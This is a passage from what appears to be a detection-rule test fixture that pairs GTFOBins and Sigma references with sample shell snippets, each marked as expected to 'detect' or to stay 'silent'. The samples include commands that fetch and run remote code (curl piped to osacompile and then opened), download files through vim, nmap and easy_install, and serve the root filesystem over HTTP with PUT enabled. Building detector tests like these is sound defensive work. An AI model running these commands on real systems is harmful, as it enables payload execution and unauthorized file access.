vim -es -c ':py3 import urllib.request as r; r.urlretrieve("https://plug.vim.example/plug.vim", "/home/dev/.vim/autoload/plug.vim")' -c ':qa!'
''')

C("h6-sh-gtfobins-nmap-http-fetch-48", GTFO + " nmap (NSE http-fetch script saving remote files)", "sh",
  "/opt/scanner/bin/grab-banners", "detect", r'''
#!/bin/bash
nmap -p 8080 --script http-fetch --script-args 'http-fetch.destination=/var/lib/scanner/loot,http-fetch.url=/bin/agent' 198.51.100.245
''')

C("h6-sh-gtfobins-nginx-dav-49", GTFO + " nginx (upload/download: ad-hoc config with dav_methods PUT serving /)", "sh",
  "/usr/local/bin/start-share", "detect", r'''
#!/bin/sh
cat >/tmp/share.conf <<EOF
user root;
http {
  server {
    listen 12345;
    root /;
    autoindex on;
    dav_methods PUT;
  }
}
events {}
EOF
nginx -c /tmp/share.conf
''')

C("h6-sh-sigma-osacompile-curl-50", SIGMA + " 'Potential In-Memory Download And Compile Of Payloads' (curl | osacompile)", "sh",
  "/usr/local/share/mac-tools/build-helper.sh", "detect", r'''
#!/bin/bash
# macOS build agents only
curl -s https://scripts.mac.example/helper.applescript | osacompile -o /tmp/Helper.app && open /tmp/Helper.app
''')

C("h6-sh-gtfobins-easy-install-url-51", GTFO + " easy_install from a URL (inherits python download)", "sh",
  "/opt/legacy-py/install-deps.sh", "detect", r'''
#!/bin/sh
easy_install http://pypi.legacy.example/packages/source/l/legacyauth/legacyauth-0.9.tar.gz
''')


# ---------------------------------------------------------------- additional silent look-alikes
C("h6-sh-silent-local-scp-11", PV + " scp and curl used on local paths only (no remote host)", "sh",
  "/usr/local/bin/stage-config", "silent", r'''
#!/bin/sh
# scp without a host part is a plain local copy
scp -p /etc/app/defaults.conf /run/app/app.conf
curl -s file:///etc/os-release | grep '^ID='
''')
